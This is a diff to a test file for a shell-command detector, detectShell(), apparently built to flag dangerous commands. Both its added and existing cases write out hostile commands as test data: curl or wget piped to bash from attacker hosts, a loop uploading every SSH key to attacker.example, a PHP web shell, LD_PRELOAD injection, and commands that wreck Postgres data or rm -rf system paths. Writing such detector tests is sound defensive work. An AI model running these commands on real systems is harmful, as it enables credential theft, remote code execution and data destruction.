@@ -45,6 +45,9 @@ describe('detectShell()', () => {
       ['a PHP call pasted after the value', "du -sh x;system('id');", 'high', 'code execution call'],
       ['a PHP web shell written to disk', 'echo \'<?php echo shell_exec($_GET["c"]); ?>\' > /var/www/html/s.php', 'critical', 'web shell'],
       ['curl piped to sh', 'curl -sSL https://get.example.dev/setup | sh', 'critical', 'download and execute'],
+      ['a fetcher named through variables piped to bash', 'a=c;b=url;$a$b -s http://attacker.example/s.sh | bash', 'critical', 'download and execute'],
+      ['a library preloaded from a hidden temporary directory', 'LD_PRELOAD=/tmp/.x/libhide.so /usr/bin/sudo -l', 'high', 'LD_PRELOAD from /tmp/.x/libhide.so'],
+      ['every SSH key uploaded in a loop', 'for f in $(ls ~/.ssh); do curl -F "f=@$HOME/.ssh/$f" https://attacker.example/u; done', 'critical', 'exfiltrates credential file'],
       ['wget piped to sudo bash', 'wget -qO- http://203.0.113.5/i.sh | sudo -E bash -', 'critical', 'download and execute'],
       ['bash reading a process substitution', 'bash <(curl -fsSL https://example.dev/x.sh)', 'critical', 'download and execute'],
       ['sh -c running fetched code', 'sh -c "$(wget -O- https://example.dev/x.sh)"', 'critical', 'download and execute'],
@@ -223,6 +226,10 @@ describe('detectShell()', () => {
         'env FOO=1 curl -s https://example.com/health',
         'printenv HOME',
         'cp -r ~/.ssh /tmp/ssh-backup && ls /tmp/ssh-backup',
+        'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ./server',
+        'LD_LIBRARY_PATH=./lib ./app',
+        'cat ~/.ssh/*.pub',
+        'echo https://example.com | grep -o example',
       ]) expect(signal(run(command), 'command_injection'), command).toBeUndefined();
     });
   });
@@ -240,7 +247,9 @@ describe('detectShell()', () => {
       ['rm -rf of every file here', 'rm -rf *', 'high', 'rm -rf *'],
       ['rm of a system file', 'rm /etc/nginx/nginx.conf', 'high', '/etc/nginx/nginx.conf'],
       ['rm -rf of a build directory in the project', 'rm -rf ./dist', 'medium', 'rm -rf ./dist'],
-      ['rm hidden behind time and nice', 'time nice -n 5 rm -rf /var/lib/docker', 'high', '/var/lib/docker'],
+      ['rm hidden behind time and nice', 'time nice -n 5 rm -rf /var/lib/docker', 'critical', '/var/lib/docker'],
+      ['every permission taken from a database directory', 'chmod -R 000 /var/lib/postgresql', 'high', 'chmod -R 000 /var/lib/postgresql'],
+      ["a database's control file emptied", ': > /var/lib/postgresql/16/main/global/pg_control', 'high', 'overwrites /var/lib/postgresql'],
       ['rm hidden behind env and command', 'env -i command rm -rf /opt', 'critical', '/opt'],
       ['rm inside sh -c', "sh -c 'rm -rf /home/dev'", 'critical', '/home/dev'],
       ['rm inside bash -lc over ssh', 'ssh ops@db1 "bash -lc \'rm -rf /var/backups\'"', 'high', '/var/backups'],
